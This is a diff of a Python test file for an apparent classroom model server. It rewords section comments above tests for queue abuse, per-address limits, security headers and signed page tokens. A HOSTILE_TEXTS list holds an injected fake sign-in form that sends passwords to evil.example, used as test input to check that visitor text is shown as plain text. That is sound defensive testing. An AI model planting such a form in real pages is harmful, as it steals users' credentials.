@@ -203,7 +203,7 @@ def test_typed_special_tokens_stay_plain_text(default_model):
     assert plain[0].tolist() == expected["input_ids"]  # ordinary prompts tokenize exactly as before
 
 
-# --- a launched server under a hostile client (issue: one script can lock out the whole class) -------
+# --- a launched server under a hostile client: one script must not lock out the whole class ----------
 # A tiny random model whose layers sleep a fixed time: job durations are set by the test, not by
 # this CPU's speed, so the timing bounds below hold with real margins on any machine.
 
@@ -736,7 +736,7 @@ def test_a_class_behind_one_address_fills_an_idle_queue_and_gives_way_to_other_a
     assert verdict.startswith("refuse") and "limit per address is 16" in verdict
 
 
-# --- text from a visitor or a link is shown as text (issue 37: a share link drew a sign-in form) ----
+# --- text from a visitor or a link is shown as text (a share link once drew a sign-in form) ---------
 
 HOSTILE_TEXTS = [
     '<form action="http://evil.example/s"><p>Your session expired. Sign in</p><input type="password"></form>',
@@ -811,7 +811,7 @@ def test_pages_carry_a_nonced_csp_and_every_response_the_security_headers(slow_s
     assert refused.status_code == 400 and "content-security-policy" not in info.headers
 
 
-# --- the smaller items of issue 37: a message, not a 500, from every page endpoint ---------------------
+# --- a message, not a 500, from every page endpoint ----------------------------------------------------
 
 
 def page_data(demo, api_name: str, **overrides) -> tuple[int, list]:
@@ -890,7 +890,7 @@ def test_the_job_cost_admits_the_page_and_its_lessons_and_refuses_the_lane_hogs(
     assert min(refused.values()) > limit and job_cost(8, 768, 256, True) > 7 * limit, refused
 
 
-# --- a client is what a script cannot multiply for free (issue 37 items 2 and 4) ------------------------
+# --- a client is what a script cannot multiply for free -------------------------------------------------
 
 
 def test_a_page_token_is_signed_single_use_and_expires():
